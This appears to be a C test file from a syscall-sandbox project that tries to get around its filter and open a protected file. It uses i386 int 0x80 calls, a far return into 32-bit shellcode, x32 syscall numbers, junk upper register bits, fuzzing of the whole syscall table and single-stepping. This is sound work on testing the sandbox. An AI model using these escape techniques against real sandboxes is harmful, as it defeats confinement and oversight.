/* SPDX-License-Identifier: LGPL-3.0-or-later */
/* abi: other ways into the kernel, other numbers, junk in registers. */
#include "attack.h"

#include <signal.h>
#include <sys/mman.h>

#define UPPER 0xdeadbeef00000000

static char *low(const char *text)
{
	char *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	return at == MAP_FAILED ? NULL : strcpy(at, text);
}

static long int80(long number, long a, long b, long c)
{
	long result;

	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(number), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

static int by_int80(void)
{
	long fd = int80(5, (long)low(SECRET), O_RDONLY, 0);

	if (fd == -ENOSYS && tracer_pid() <= 0)
		return cannot("no i386 calls");
	return is_secret_fd((int)fd) ? WORKED : HELD;
}

/* openat, openat2's neighbour: other numbers of the same table */
static int by_int80_openat(void)
{
	long fd = int80(295, AT_FDCWD, (long)low(SECRET), O_RDONLY);

	if (fd == -ENOSYS && tracer_pid() <= 0)
		return cannot("no i386 calls");
	return is_secret_fd((int)fd) ? WORKED : HELD;
}

/* A number that is harmless in one table and opens in the other: i386 5 is
 * x86_64 fstat. Says nothing by itself; the call has to be refused. */
static int by_int80_child(void)
{
	long pid = int80(2, 0, 0, 0); /* fork */

	if (pid == 0)
		_exit(read_it());
	if (pid < 0)
		return tracer_pid() > 0 ? HELD : cannot("no i386 calls");
	return status_of((pid_t)pid);
}

/* Into 32-bit code by a far return, and int 0x80 from there. */
static int by_far_return(void)
{
	static const unsigned char code[] = {
		0xb8, 5,    0,	  0,	0,	    /* mov $5, %eax */
		0xbb, 0,    0,	  0,	0,	    /* mov $path, %ebx */
		0x31, 0xc9, 0x31, 0xd2,		    /* xor %ecx, %ecx ... */
		0xcd, 0x80,			    /* int $0x80 */
		0xea, 0,    0,	  0,	0, 0x33, 0, /* ljmp $0x33, back */
	};
	unsigned char *page =
		mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	unsigned int path, back, stack;
	long result;

	if (page == MAP_FAILED)
		return cannot("mmap");
	memcpy(page, code, sizeof(code));
	path = (unsigned int)(unsigned long)page + 256;
	back = (unsigned int)(unsigned long)page + 23;
	stack = (unsigned int)(unsigned long)page + 8000;
	strcpy((char *)page + 256, SECRET);
	memcpy(page + 6, &path, 4);
	memcpy(page + 17, &back, 4);
	/* 64-bit again: restore the stack from r15, return */
	memcpy(page + 23, "\x4c\x89\xfc\xc3", 4);
	__asm__ volatile("mov %%rsp, %%r15\n\t"
			 "lea 1f(%%rip), %%r14\n\t"
			 "sub $136, %%r15\n\t"
			 "mov %%r14, (%%r15)\n\t"
			 "mov %2, %%r13d\n\t"
			 "mov %1, %%r12\n\t"
			 "mov %%r13, %%rsp\n\t"
			 "pushq $0x23\n\t"
			 "push %%r12\n\t"
			 "lretq\n\t"
			 "1: add $128, %%rsp\n\t"
			 : "=a"(result)
			 : "r"(page), "r"(stack)
			 : "rbx", "rcx", "rdx", "r8", "r9", "r10", "r11", "r12",
			   "r13", "r14", "r15", "memory", "cc");
	if ((int)result == -ENOSYS && tracer_pid() <= 0)
		return cannot("no i386 calls");
	return is_secret_fd((int)result) ? WORKED : HELD;
}

/* x32 numbers, with and without the bit. */
static int x32(void)
{
	static const long numbers[] = { 0x40000002, 0x40000101, 0x400001b5 };
	int worked = 0, known = 0;

	for (size_t i = 0; i < 3; i++) {
		long fd = i == 0 ? sc(numbers[i], low(SECRET), O_RDONLY) :
				   sc(numbers[i], AT_FDCWD, low(SECRET),
				      O_RDONLY);

		known |= fd >= 0 || errno != ENOSYS;
		worked |= is_secret_fd((int)fd);
	}
	for (long nr = 512; nr < 548; nr++)
		known |= sc(nr, -1, 0, 0, 0, 0, 0) >= 0;
	if (!known && tracer_pid() <= 0)
		return cannot("no x32 calls");
	return worked ? WORKED : HELD;
}

static long raw(long number, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
}

static int upper_number(void)
{
	return is_secret_fd((int)raw((long)UPPER | SYS_openat, AT_FDCWD,
				     (long)SECRET, O_RDONLY, 0)) ?
		       WORKED :
		       HELD;
}

/* Every int argument: descriptor, flags, mode. */
static int upper_arguments(void)
{
	int dir = open("sdir", O_PATH | O_DIRECTORY);
	int worked =
		is_secret_fd((int)raw(
			SYS_openat, (long)UPPER | (unsigned)AT_FDCWD,
			(long)SECRET, (long)UPPER | O_RDONLY, (long)UPPER)) ||
		is_secret_fd((int)raw(SYS_openat, (long)UPPER | dir, (long)"f",
				      (long)UPPER | O_RDONLY, 0)) ||
		is_secret_fd(
			(int)raw(SYS_open, (long)SECRET, (long)UPPER, 0, 0));

	return worked ? WORKED : HELD;
}

/* Access mode 3 needs both rights and gives none, but ioctl. */
static int access_mode_three(void)
{
	return sc(SYS_openat, AT_FDCWD, SECRET, 3) >= 0 ? WORKED : HELD;
}

/* None of these exists. */
static int bad_numbers(void)
{
	static const long numbers[] = { -1,	    -2,		0x7fffffff,
					600,	    1024,	0xffff,
					-4096,	    0x80000101, 0x40000000,
					0x10000101, 548,	470 + 4096 };
	int good = 0;

	for (size_t i = 0; i < sizeof(numbers) / sizeof(numbers[0]); i++)
		good += raw(numbers[i], AT_FDCWD, (long)SECRET, 0, 0) >= 0;
	return good ? WORKED : read_it();
}

/* The whole table with arguments that nobody can use, each in a child: what
 * matters is that nothing gives more than bare. */
static int all_numbers(void)
{
	for (long nr = 0; nr < 1024; nr++) {
		pid_t pid;

		if (nr == SYS_vhangup || nr == SYS_reboot || nr == SYS_kill ||
		    nr == SYS_exit || nr == SYS_exit_group || nr == SYS_pause ||
		    nr == SYS_sync)
			continue;
		pid = fork();
		if (!pid) {
			alarm(1);
			close(0);
			raw(nr, -1, -1, -1, -1);
			_exit(0);
		}
		status_of(pid);
	}
	return read_it();
}

static void ignore(int signal)
{
	(void)signal;
}

static int single_step(void)
{
	int fd;

	signal(SIGTRAP, ignore);
	__asm__ volatile("pushfq; orq $0x100, (%%rsp); popfq" ::: "memory");
	fd = (int)raw(SYS_openat, AT_FDCWD, (long)SECRET, O_RDONLY, 0);
	__asm__ volatile("pushfq; andq $~0x100, (%%rsp); popfq" ::: "memory");
	return is_secret_fd(fd) ? WORKED : HELD;
}

ATTACKS({ "int80", by_int80 }, { "int80-openat", by_int80_openat },
	{ "int80-child", by_int80_child }, { "far-return", by_far_return },
	{ "x32", x32 }, { "upper-number", upper_number },
	{ "upper-arguments", upper_arguments },
	{ "access-mode-three", access_mode_three },
	{ "bad-numbers", bad_numbers }, { "all-numbers", all_numbers },
	{ "single-step", single_step })
